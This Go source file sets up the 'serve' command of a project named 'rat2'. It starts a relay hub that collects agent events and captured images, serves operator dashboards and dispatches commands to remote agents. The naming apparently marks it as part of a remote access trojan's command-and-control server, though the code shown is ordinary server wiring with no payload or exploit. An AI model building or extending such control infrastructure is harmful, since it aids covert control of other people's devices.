package cmd

import (
	"context"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/MRSt3Ss/rat2/api"
	"github.com/MRSt3Ss/rat2/config"
	"github.com/MRSt3Ss/rat2/internal/channel"
	"github.com/MRSt3Ss/rat2/internal/command"
	"github.com/MRSt3Ss/rat2/internal/content"
	"github.com/MRSt3Ss/rat2/internal/events"
	"github.com/MRSt3Ss/rat2/internal/hub"
	"github.com/MRSt3Ss/rat2/internal/registry"
	"github.com/MRSt3Ss/rat2/internal/service"
	"github.com/MRSt3Ss/rat2/internal/telemetry"

	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
)

var (
	// Serve command flags
	disableNewRelic bool
	serverPort      int
	gracefulTimeout int
)

// serveCmd represents the serve command
var serveCmd = &cobra.Command{
	Use:   "serve",
	Short: "Start the relay hub server",
	Long: `Starts the relay hub server that ingests agent events, serves
operator dashboards over HTTP and WebSocket, and dispatches commands to
the upstream agent channel.

The server respects the configuration in config.yaml or specified via the --config flag.
It will gracefully shut down on receiving SIGINT or SIGTERM signals.`,
	Run: func(cmd *cobra.Command, args []string) {
		startServer()
	},
}

func init() {
	rootCmd.AddCommand(serveCmd)

	// Serve-specific flags
	serveCmd.Flags().BoolVar(&disableNewRelic, "disable-newrelic", false, "Disable New Relic monitoring")
	serveCmd.Flags().IntVar(&serverPort, "port", 0, "Server port (overrides config file)")
	serveCmd.Flags().IntVar(&gracefulTimeout, "graceful-timeout", 30, "Graceful shutdown timeout in seconds")
}

// startServer initializes and starts the relay hub server
func startServer() {
	// Load configuration
	cfg, err := config.Load()
	if err != nil {
		log.Fatalf("Failed to load configuration: %v", err)
	}

	// Override config with command line flags if provided
	if serverPort > 0 {
		cfg.Server.Port = serverPort
	}

	log.WithFields(logrus.Fields{
		"port":             cfg.Server.Port,
		"newrelic_enabled": cfg.NewRelic.Enabled && !disableNewRelic,
	}).Info("Initializing service components...")

	// Initialize New Relic if enabled
	nrCfg := cfg.NewRelic
	if disableNewRelic {
		nrCfg.Enabled = false
	}
	nrApp, err := telemetry.InitNewRelic(nrCfg)
	if err != nil {
		log.Warnf("Failed to initialize New Relic: %v", err)
	}

	// Initialize the content store for captured images
	contentStore, err := content.NewStore(cfg.Content.ImagesDir, "/api/image")
	if err != nil {
		log.Fatalf("Failed to initialize content store: %v", err)
	}

	// Initialize the upstream agent-command channel
	log.Info("Initializing agent-command channel...")
	sink := newSink(cfg)
	defer func() {
		log.Info("Closing agent-command channel...")
		if err := sink.Close(); err != nil {
			log.WithField("error", err.Error()).Error("Error closing agent-command channel")
		}
	}()

	// Initialize core components
	deviceRegistry := registry.New()
	eventStore := events.NewStoreWithWatermarks(cfg.Hub.HistoryHigh, cfg.Hub.HistoryLow)
	broadcastHub := hub.New(log, cfg.Hub.SessionBuffer)
	dispatcher := command.NewDispatcher(sink, log, time.Duration(cfg.Upstream.TimeoutSeconds)*time.Second)

	// Create service with configuration
	log.Info("Initializing service layer...")
	svc, err := service.NewService(service.ServiceConfig{
		Registry:   deviceRegistry,
		EventStore: eventStore,
		Hub:        broadcastHub,
		Dispatcher: dispatcher,
		Content:    contentStore,
		Logger:     log,
	})
	if err != nil {
		log.Fatalf("Failed to initialize service: %v", err)
	}

	// Create and initialize the server
	log.Info("Initializing API server...")
	server := api.NewServer(cfg, log, nrApp, svc)

	// Set up graceful shutdown
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM)

	// Start the server in a goroutine
	go func() {
		log.WithFields(logrus.Fields{
			"port": cfg.Server.Port,
		}).Info("Starting server...")

		if err := server.Start(); err != nil && err != http.ErrServerClosed {
			log.Fatalf("Failed to start server: %v", err)
		}
	}()

	// Wait for shutdown signal
	sig := <-stop
	log.Infof("Received signal %s, shutting down gracefully...", sig.String())

	// Create a timeout context for shutdown
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(gracefulTimeout)*time.Second)
	defer cancel()

	// Shutdown service components
	log.Info("Shutting down service components...")
	if err := svc.Shutdown(); err != nil {
		log.Warnf("Service shutdown error: %v", err)
	}

	// Shutdown HTTP server
	log.Info("Shutting down HTTP server...")
	if err := server.Shutdown(ctx); err != nil {
		log.Warnf("Server shutdown error: %v", err)
	}

	log.Info("Server shutdown complete")
}

// newSink picks the agent-command channel from configuration: Service
// Bus when a connection string is set, HTTP when an upstream URL is set,
// otherwise a sink that logs and drops.
func newSink(cfg *config.Config) channel.Sink {
	if cfg.ServiceBus.ConnectionString != "" {
		sink, err := channel.NewServiceBusSink(cfg.ServiceBus.ConnectionString, cfg.ServiceBus.QueueName)
		if err != nil {
			log.Warnf("Failed to connect to Service Bus, falling back to drop sink: %v", err)
			return channel.NewDropSink(log)
		}
		log.WithField("queue", cfg.ServiceBus.QueueName).Info("Using Service Bus agent-command channel")
		return sink
	}

	if cfg.Upstream.URL != "" {
		log.WithField("url", cfg.Upstream.URL).Info("Using HTTP agent-command channel")
		return channel.NewHTTPSink(cfg.Upstream.URL, time.Duration(cfg.Upstream.TimeoutSeconds)*time.Second)
	}

	log.Info("No agent-command channel configured, commands will be logged and dropped")
	return channel.NewDropSink(log)
}
